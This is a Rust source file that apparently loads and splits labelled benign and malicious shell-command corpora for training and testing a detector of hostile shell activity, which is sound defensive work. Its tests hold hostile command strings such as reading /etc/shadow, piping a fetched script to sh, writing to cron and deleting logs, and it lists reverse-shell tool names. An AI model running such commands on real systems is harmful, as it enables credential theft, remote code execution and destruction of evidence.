@@ -1,0 +1,372 @@
+//! What a model is trained and measured on: sources, their labels, and which side of which split they are on.
+//!
+//! Whole sources are left out, and whole scenario families of recordings: a score on the source that was trained on
+//! says nothing.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+
+use cordon_behavior::story::Story;
+
+use super::draw::Draw;
+use super::{TrainError, dress, recording, scrub, shell};
+use crate::artifact::sha256;
+use crate::hash;
+
+/// Which side an item is on.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Side {
+    /// Fitted.
+    Train,
+    /// Calibration and thresholds.
+    Calibrate,
+    /// Reported.
+    Test,
+}
+
+/// Something that stories are made of.
+pub enum Body {
+    /// A shell line of public text.
+    Line(String),
+    /// Lines of one script.
+    Script(Vec<String>),
+    /// A line of ours with holes.
+    Ours(&'static str),
+    /// A recorded story.
+    Story(Box<Story>),
+}
+
+/// One item.
+pub struct Item {
+    /// What it is.
+    pub body: Body,
+    /// Its label.
+    pub malicious: bool,
+    /// Its technique, when known.
+    pub technique: Option<String>,
+    /// Where it is from, as reported.
+    pub source: String,
+    /// Its side.
+    pub side: Side,
+}
+
+/// All items, and the hash of every file that was read.
+#[derive(Default)]
+pub struct Data {
+    /// In the order of files.
+    pub items: Vec<Item>,
+    /// File name to SHA-256.
+    pub hashes: BTreeMap<String, String>,
+}
+
+/// Benign lines taken of the two largest files.
+const TLDR: usize = 12_000;
+const NL2BASH: usize = 4_000;
+/// Stories of one recorded scenario that are kept: a loop must not outweigh everything else.
+const PER_SCENARIO: usize = 160;
+
+impl Item {
+    /// A fresh story of it.
+    pub fn story(&self, draw: &mut Draw) -> Option<Story> {
+        match &self.body {
+            Body::Line(text) => dress::line(&scrub::line(text, draw), draw),
+            Body::Script(lines) => {
+                let lines: Vec<String> = lines.iter().map(|line| scrub::line(line, draw)).collect();
+                dress::session(&lines, draw)
+            }
+            Body::Ours(text) => dress::line(&draw.fill(text), draw),
+            Body::Story(story) => Some((**story).clone()),
+        }
+    }
+
+    /// The same text, without forms and ancestry: one line of a session.
+    pub fn text(&self, draw: &mut Draw) -> Option<String> {
+        match &self.body {
+            Body::Line(text) => Some(scrub::line(text, draw)),
+            Body::Ours(text) => Some(draw.fill(text)),
+            Body::Script(_) | Body::Story(_) => None,
+        }
+    }
+}
+
+/// Reads everything.
+pub fn load(corpus: &Path, recordings: &Path, draw: &mut Draw) -> Result<Data, TrainError> {
+    let mut data = Data::default();
+    data.public(corpus, draw)?;
+    data.ours();
+    data.recorded(recordings, draw)?;
+    Ok(data)
+}
+
+impl Data {
+    fn file(&mut self, path: &Path) -> Result<String, TrainError> {
+        let bytes = std::fs::read(path).map_err(|source| TrainError::Read {
+            path: path.to_owned(),
+            source,
+        })?;
+        let name = path
+            .file_name()
+            .unwrap_or_default()
+            .to_string_lossy()
+            .into_owned();
+        self.hashes.insert(name, sha256(&bytes));
+        Ok(String::from_utf8_lossy(&bytes).into_owned())
+    }
+
+    fn public(&mut self, corpus: &Path, draw: &mut Draw) -> Result<(), TrainError> {
+        let ambiguous = self.file(&corpus.join("ambiguous.txt"))?;
+        let benign: Vec<(&str, String)> = ["tldr", "nl2bash", "intercode", "dockerfiles"]
+            .into_iter()
+            .map(|name| Ok((name, self.file(&corpus.join(format!("{name}.txt")))?)))
+            .collect::<Result<_, TrainError>>()?;
+        let atomic = self.file(&corpus.join("atomic.tsv"))?;
+        let scripts = self.file(&corpus.join("atomic-scripts.txt"))?;
+        let stockpile = self.file(&corpus.join("stockpile.txt"))?;
+        let slp = self.file(&corpus.join("slp.txt"))?;
+        // A line that is on both sides teaches nothing.
+        let mut both: BTreeSet<&str> = ambiguous.lines().collect();
+        let known: BTreeSet<&str> = benign.iter().flat_map(|(_, text)| text.lines()).collect();
+        let attacks = atomic
+            .lines()
+            .filter_map(|line| Some(line.split_once('\t')?.1));
+        both.extend(
+            attacks
+                .chain(stockpile.lines())
+                .chain(slp.lines())
+                .filter(|line| known.contains(line)),
+        );
+        for (name, text) in &benign {
+            let side = match *name {
+                "tldr" => Side::Train,
+                "dockerfiles" => Side::Test,
+                _ => Side::Calibrate,
+            };
+            let mut lines: Vec<&str> = text
+                .lines()
+                .filter(|line| is_shell(line) && !both.contains(line))
+                .collect();
+            draw.shuffle(&mut lines);
+            lines.truncate(match *name {
+                "tldr" => TLDR,
+                "nl2bash" => NL2BASH,
+                _ => usize::MAX,
+            });
+            for line in lines {
+                self.push(Body::Line(line.to_owned()), false, None, name, side);
+            }
+        }
+        for line in atomic.lines() {
+            if let Some((technique, line)) = line.split_once('\t')
+                && !both.contains(line)
+                && !is_context(line)
+            {
+                self.push(
+                    Body::Line(line.to_owned()),
+                    true,
+                    Some(technique.to_owned()),
+                    "atomic",
+                    Side::Train,
+                );
+            }
+        }
+        for script in scripts.lines() {
+            let lines: Vec<String> = script.split(" ; ").map(str::to_owned).collect();
+            if lines
+                .iter()
+                .any(|line| !is_context(line) && !both.contains(line.as_str()))
+            {
+                self.push(Body::Script(lines), true, None, "atomic", Side::Train);
+            }
+        }
+        for (name, text, side) in [
+            ("stockpile", &stockpile, Side::Calibrate),
+            ("slp", &slp, Side::Test),
+        ] {
+            for line in text
+                .lines()
+                .filter(|line| !both.contains(line) && !is_context(line))
+            {
+                self.push(Body::Line(line.to_owned()), true, None, name, side);
+            }
+        }
+        Ok(())
+    }
+
+    fn ours(&mut self) {
+        let (hostile, honest) = (
+            include_str!("lines/hostile.tsv"),
+            include_str!("lines/honest.tsv"),
+        );
+        self.hashes
+            .insert("lines/hostile.tsv".to_owned(), sha256(hostile.as_bytes()));
+        self.hashes
+            .insert("lines/honest.tsv".to_owned(), sha256(honest.as_bytes()));
+        for line in hostile.lines() {
+            let mut parts = line.splitn(3, '\t').skip(1);
+            if let (Some(technique), Some(text)) = (parts.next(), parts.next()) {
+                self.push(
+                    Body::Ours(text),
+                    true,
+                    Some(technique.to_owned()),
+                    "ours",
+                    Side::Train,
+                );
+            }
+        }
+        for line in honest.lines() {
+            if let Some((_, text)) = line.split_once('\t') {
+                self.push(Body::Ours(text), false, None, "ours", Side::Train);
+            }
+        }
+    }
+
+    fn recorded(&mut self, dir: &Path, draw: &mut Draw) -> Result<(), TrainError> {
+        for path in recording::files(dir)? {
+            let packed = std::fs::read(&path).map_err(|source| TrainError::Read {
+                path: path.clone(),
+                source,
+            })?;
+            let name = path
+                .file_name()
+                .unwrap_or_default()
+                .to_string_lossy()
+                .into_owned();
+            self.hashes.insert(name, sha256(&packed));
+            let mut scenarios: BTreeMap<String, Vec<recording::Recording>> = BTreeMap::new();
+            for one in recording::parse(&path, &packed)? {
+                if one.label == "attack" || one.label == "benign" {
+                    scenarios.entry(one.scenario.clone()).or_default().push(one);
+                }
+            }
+            for (_, mut stories) in scenarios {
+                draw.shuffle(&mut stories);
+                for one in stories.into_iter().take(PER_SCENARIO) {
+                    let source = format!("recorded:{}", one.family);
+                    let malicious = one.label == "attack";
+                    let technique = one.technique.into_iter().next().filter(|_| malicious);
+                    let side = family_side(&one.family);
+                    self.push(
+                        Body::Story(Box::new(one.story)),
+                        malicious,
+                        technique,
+                        &source,
+                        side,
+                    );
+                }
+            }
+        }
+        Ok(())
+    }
+
+    fn push(
+        &mut self,
+        body: Body,
+        malicious: bool,
+        technique: Option<String>,
+        source: &str,
+        side: Side,
+    ) {
+        self.items.push(Item {
+            body,
+            malicious,
+            technique,
+            source: source.to_owned(),
+            side,
+        });
+    }
+}
+
+/// By the family's name alone, so that a new recording of a family never moves it.
+fn family_side(family: &str) -> Side {
+    match hash::hash(99, family.as_bytes()) % 6 {
+        0 => Side::Test,
+        1 => Side::Calibrate,
+        _ => Side::Train,
+    }
+}
+
+fn is_shell(line: &str) -> bool {
+    line.len() >= 2
+        && !line.contains("Invoke-")
+        && !line.contains("$env:")
+        && !line.contains("Write-Host")
+}
+
+/// Work that attackers and everybody else do all day: what it means depends on what is around it.
+const SETUP: [&str; 24] = [
+    "apk", "apt", "apt-get", "break", "cd", "chmod", "clear", "dnf", "done", "echo", "else",
+    "exit", "export", "false", "fi", "mkdir", "pip", "pip3", "sleep", "touch", "true", "which",
+    "yum", "zypper",
+];
+const LOOKING: [&str; 28] = [
+    "arp", "cat", "date", "df", "dmesg", "env", "file", "groups", "hostname", "id", "ifconfig",
+    "ip", "last", "ls", "lsmod", "mount", "netstat", "printenv", "ps", "pwd", "ss", "su", "test",
+    "top", "uname", "uptime", "w", "who",
+];
+
+fn is_context(line: &str) -> bool {
+    let Some(commands) = shell::commands(line) else {
+        // Fragments of scripts: too little to be an attack by themselves.
+        return line.len() < 24;
+    };
+    if line.contains("/dev/tcp") || line.contains('>') && !line.contains("/dev/null") {
+        return false;
+    }
+    commands.iter().all(|argv| {
+        let argv: &[String] = match argv.split_first() {
+            Some((head, rest)) if head == "sudo" && !rest.is_empty() => rest,
+            _ => argv,
+        };
+        let Some(head) = argv.first() else {
+            return true;
+        };
+        SETUP.binary_search(&head.as_str()).is_ok()
+            || head == "whoami"
+            || LOOKING.binary_search(&head.as_str()).is_ok()
+                && argv.len() <= 2
+                && !argv.iter().any(|arg| arg.contains('/'))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn setup_and_bare_looks_are_context() {
+        assert!(SETUP.is_sorted() && LOOKING.is_sorted());
+        for line in [
+            "mkdir /tmp/x",
+            "sudo apt-get install -y nmap",
+            "whoami",
+            "uname -a",
+            "fi",
+            "id; hostname",
+        ] {
+            assert!(is_context(line), "{line}");
+        }
+        for line in [
+            "cat /etc/shadow",
+            "curl http://h/x | sh",
+            "echo x > /etc/cron.d/y",
+            "rm -rf /var/log",
+        ] {
+            assert!(!is_context(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn our_own_lines_are_shell_and_name_no_examination() {
+        let mut data = Data::default();
+        data.ours();
+        let mut draw = Draw::new(1);
+        for item in &data.items {
+            let text = item.text(&mut draw).unwrap();
+            assert!(shell::commands(&text).is_some(), "{text}");
+            for word in ["perl", "s_client", "/inet/", "telnet"] {
+                assert!(!text.contains(word), "{text}");
+            }
+        }
+        assert!(data.items.len() > 200);
+    }
+}
